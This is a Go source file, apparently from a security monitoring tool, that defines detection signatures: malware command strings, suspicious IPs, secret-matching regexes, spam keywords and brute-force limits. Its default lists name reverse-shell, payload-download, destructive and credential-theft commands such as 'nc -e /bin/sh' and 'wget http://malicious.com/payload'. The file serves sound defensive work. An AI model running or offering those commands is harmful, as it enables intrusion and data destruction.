package signatures

import (
	"fmt"
	"os"

	"gopkg.in/yaml.v3"
)

// Set is the static signature configuration loaded once at process start
type Set struct {
	Malware           []string         `yaml:"malware"`
	AttachmentMalware []string         `yaml:"attachment_malware"`
	SuspiciousIPs     []string         `yaml:"suspicious_ips"`
	SensitivePatterns []Pattern        `yaml:"sensitive_patterns"`
	SpamKeywords      []string         `yaml:"spam_keywords"`
	UrgencyWords      []string         `yaml:"urgency_words"`
	UnusualResponse   ResponseLimits   `yaml:"unusual_response"`
	BruteForce        BruteForceConfig `yaml:"brute_force"`
}

// Pattern is a named sensitive-data regular expression
type Pattern struct {
	ID    string `yaml:"id"`
	Regex string `yaml:"regex"`
}

// ResponseLimits bounds what counts as a normal HTTP response
type ResponseLimits struct {
	SuspiciousStatusCodes []int    `yaml:"suspicious_status_codes"`
	SmallBytes            int      `yaml:"small_bytes"`
	LargeBytes            int      `yaml:"large_bytes"`
	SmallAllowList        []string `yaml:"small_allow_list"`
}

// AuthFailureRule identifies a failed authentication attempt. StatusCode 0 matches any status.
type AuthFailureRule struct {
	Action     string `yaml:"action"`
	StatusCode int    `yaml:"status_code"`
}

// BruteForceConfig configures the rate-window counter
type BruteForceConfig struct {
	Rules            []AuthFailureRule `yaml:"rules"`
	WindowMinutes    int               `yaml:"window_minutes"`
	Threshold        int               `yaml:"threshold"`
	RefineByUsername bool              `yaml:"refine_by_username"`
}

// ValidationError represents a signature set validation error
type ValidationError struct {
	Field   string
	Message string
}

func (e *ValidationError) Error() string {
	return fmt.Sprintf("validation error in field '%s': %s", e.Field, e.Message)
}

// Validate checks the set for configuration mistakes
func (s *Set) Validate() error {
	for i, p := range s.SensitivePatterns {
		if p.ID == "" {
			return &ValidationError{Field: fmt.Sprintf("sensitive_patterns[%d].id", i), Message: "pattern ID is required"}
		}
		if p.Regex == "" {
			return &ValidationError{Field: fmt.Sprintf("sensitive_patterns[%d].regex", i), Message: "regex is required"}
		}
	}

	if s.UnusualResponse.SmallBytes < 0 || s.UnusualResponse.LargeBytes < 0 {
		return &ValidationError{Field: "unusual_response", Message: "byte limits must not be negative"}
	}
	if s.UnusualResponse.LargeBytes > 0 && s.UnusualResponse.SmallBytes >= s.UnusualResponse.LargeBytes {
		return &ValidationError{Field: "unusual_response.small_bytes", Message: "small limit must be below large limit"}
	}

	if s.BruteForce.WindowMinutes <= 0 {
		return &ValidationError{Field: "brute_force.window_minutes", Message: "window must be positive"}
	}
	if s.BruteForce.Threshold <= 0 {
		return &ValidationError{Field: "brute_force.threshold", Message: "threshold must be positive"}
	}
	for i, r := range s.BruteForce.Rules {
		if r.Action == "" {
			return &ValidationError{Field: fmt.Sprintf("brute_force.rules[%d].action", i), Message: "action is required"}
		}
	}

	return nil
}

// Load returns the default set overlaid with the YAML file at path. Keys present in the
// file replace the corresponding defaults; an empty path yields the defaults.
func Load(path string) (*Set, error) {
	set := Defaults()
	if path == "" {
		return set, nil
	}

	data, err := os.ReadFile(path)
	if err != nil {
		return nil, fmt.Errorf("failed to read signature file %s: %w", path, err)
	}

	if err := yaml.Unmarshal(data, set); err != nil {
		return nil, fmt.Errorf("failed to parse signature file %s: %w", path, err)
	}

	if err := set.Validate(); err != nil {
		return nil, err
	}

	return set, nil
}

// Defaults returns the built-in signature set
func Defaults() *Set {
	return &Set{
		Malware: []string{
			"evil.exe",
			"powershell -encodedcommand",
			"nc -lvp",
			"rm -rf /",
			"beacon.c2.com",
			"trojan.downloader",
			"mimikatz",
			"psexec.exe",
			"rundll32.exe",
			"mshta.exe",
			"certutil -urlcache -f",
			"bitsadmin /transfer",
			"wscript.exe",
			"macro_enabled.docm",
			"shell.php",
			"base64 --decode",
		},
		AttachmentMalware: []string{
			`X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*`,
			"malicious_script.js",
			"virus_payload.exe",
			"backdoor.php",
			"exploit.doc",
			"ransomware_note.txt",
			"eval(base64_decode(",
			"cmd.exe /c",
			"powershell -nop -w hidden -e",
			"Invoke-Expression",
			"msfvenom",
			"shellcode",
			"obfuscated_code",
			"<?php passthru(",
			"python -c 'import socket; socket.socket",
			"wget http://malicious.com/payload",
			"curl -o /tmp/evil",
			"nc -e /bin/sh",
			"meterpreter",
		},
		SuspiciousIPs: []string{
			"1.2.3.4",
			"203.0.113.10",
			"8.8.8.8",
			"192.0.2.1",
			"198.51.100.25",
			"203.0.113.50",
			"10.0.0.10",
			"172.16.0.1",
			"192.168.0.100",
			"100.64.0.1",
			"169.254.0.5",
			"192.88.99.1",
			"198.18.0.1",
			"224.0.0.1",
		},
		SensitivePatterns: []Pattern{
			{ID: "private_key", Regex: `-----BEGIN (RSA |EC |DSA |OPENSSH )?PRIVATE KEY-----`},
			{ID: "aws_access_key", Regex: `\b(AKIA|ASIA)[0-9A-Z]{16}\b`},
			{ID: "password_assignment", Regex: `\b(password|passwd|pwd)["']?\s*[:=]\s*["']?[^\s"',;&]{4,}`},
			{ID: "api_key", Regex: `\b(api[_-]?key|secret[_-]?key|access[_-]?token)["']?\s*[:=]\s*["']?[a-z0-9_\-]{16,}`},
			{ID: "bearer_token", Regex: `\bbearer\s+[a-z0-9\-._~+/]{20,}=*`},
			{ID: "jwt", Regex: `\beyJ[a-z0-9_-]{10,}\.[a-z0-9_-]{10,}\.[a-z0-9_-]{10,}`},
			{ID: "credit_card", Regex: `\b(?:4\d{3}|5[1-5]\d{2}|3[47]\d{2}|6011)[- ]?\d{4}[- ]?\d{4}[- ]?\d{1,4}\b`},
		},
		SpamKeywords: []string{
			"free", "win", "winner", "cash", "prize", "urgent", "claim", "call now",
			"limited time", "offer", "guaranteed", "bonus", "award", "congratulations",
			"click here", "txt", "mobile", "ringtone", "subscription", "£", "$",
			"bonus prize", "customer service", "selected", "valued customer",
		},
		UrgencyWords: []string{
			"urgent", "immediate", "now", "limited", "expires", "hurry", "fast", "quick",
		},
		UnusualResponse: ResponseLimits{
			SuspiciousStatusCodes: []int{403, 404, 500, 502, 503, 504},
			SmallBytes:            16,
			LargeBytes:            10 * 1024 * 1024,
			SmallAllowList: []string{
				"GET__HEALTH",
				"GET__HEALTHZ",
				"HEAD",
				"OPTIONS",
				"POST__LOGOUT",
				"GET__FAVICON",
			},
		},
		BruteForce: BruteForceConfig{
			Rules: []AuthFailureRule{
				{Action: "POST__TOKEN", StatusCode: 401},
				{Action: "POST__LOGIN", StatusCode: 401},
				{Action: "LOGIN_DENIED"},
			},
			WindowMinutes:    5,
			Threshold:        5,
			RefineByUsername: true,
		},
	}
}
